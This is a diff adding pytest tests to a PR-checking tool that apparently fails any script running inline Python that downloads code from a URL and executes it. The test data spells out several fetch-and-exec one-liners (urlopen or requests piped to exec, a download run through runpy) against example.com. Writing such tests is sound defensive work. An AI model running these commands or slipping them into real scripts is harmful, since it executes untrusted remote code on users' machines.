@@ -204,3 +204,69 @@ def test_moves_are_followed_within_a_bound_and_past_it_every_moved_name_counts()
     long = [(frozenset({f"n{i}"}), f"n{i + 1}") for i in range(MAX_MOVE_STEPS + 10)]
     *_, every = _followed([Saved(fetch, frozenset({"n0"}), None)], long)
     assert every.fetch == fetch and f"n{MAX_MOVE_STEPS + 10}" in every.names
+
+
+PYTHON_FETCH_AND_RUN = {
+    "c-exec-urlopen": (
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://example.com/p.py')"
+        '.read())"'
+    ),
+    "heredoc-exec": (
+        "python3 - <<'EOF'\nimport urllib.request\n"
+        "exec(urllib.request.urlopen('https://example.com/p.py').read())\nEOF"
+    ),
+    "c-requests-exec": (
+        "python3 -c \"import requests; exec(requests.get('https://example.com/p.py').text)\""
+    ),
+    "saved-and-run-by-runpy": (
+        "python3 -u -c \"import runpy, urllib.request as u; open('/tmp/x.py', 'wb').write("
+        "u.urlopen('https://example.com/p.py').read()); runpy.run_path('/tmp/x.py')\""
+    ),
+    "module-named-at-run-time": (
+        "python3 -c \"import os; m = __import__(os.environ['M']); m.go()\""
+    ),
+}
+
+
+@pytest.mark.parametrize("check_id", CHECKS)
+@pytest.mark.parametrize("case", sorted(PYTHON_FETCH_AND_RUN))
+def test_inline_python_that_downloads_code_and_runs_it_fails_closed(check, case, check_id):
+    result = check(_parts(PYTHON_FETCH_AND_RUN[case]), check_id)
+    assert result.status == "FAIL", result.reason
+    assert "an inline Python program that downloads code from" in result.reason
+    if case == "module-named-at-run-time":
+        assert "a URL known only at run time" in result.reason
+    else:
+        assert "`https://example.com/p.py`" in result.reason
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        "python3 -c \"import requests; requests.get('http://localhost:8888/health')\"",
+        "python3 -c \"import subprocess; subprocess.run(['nvidia-smi'])\"",
+        "python3 - <<'EOF'\nimport importlib\nmods = ['vllm', 'vllm.entrypoints']\n"
+        "for m in mods: importlib.import_module(m)\nEOF",
+        "python3 -c \"import importlib.metadata as m; print(m.version('vllm'))\"",
+    ],
+    ids=["network-alone", "running-alone", "literal-module-list", "metadata"],
+)
+def test_inline_python_that_cannot_both_download_and_run_code_is_not_counted(check, program):
+    for check_id in CHECKS:
+        result = check(_parts(program), check_id)
+        assert "an inline Python program" not in result.reason, (check_id, result.reason)
+
+
+def test_such_a_program_in_a_script_the_pr_does_not_change_is_baseline(check):
+    """As for a program saved under a name: it counts when the PR changes the script or a file
+    it sources (a changed entry that runs an unchanged script reads it as the base did)."""
+    parts = passing_parts()
+    script = SCRIPT.replace(ANCHOR, ANCHOR + PYTHON_FETCH_AND_RUN["c-exec-urlopen"] + "\n")
+    replace_file(parts, SCRIPT_PATH, "head", script)
+    replace_file(parts, SCRIPT_PATH, "base", script)
+    parts["changed_files"] = [f for f in parts["changed_files"] if f["path"] != SCRIPT_PATH]
+    for check_id in CHECKS:
+        result = check(parts, check_id)
+        assert "an inline Python program" not in result.reason, (check_id, result.reason)
+    changed = _parts(PYTHON_FETCH_AND_RUN["c-exec-urlopen"])  # the same text, the script changed
+    assert "an inline Python program" in check(changed, "engine-patches").reason
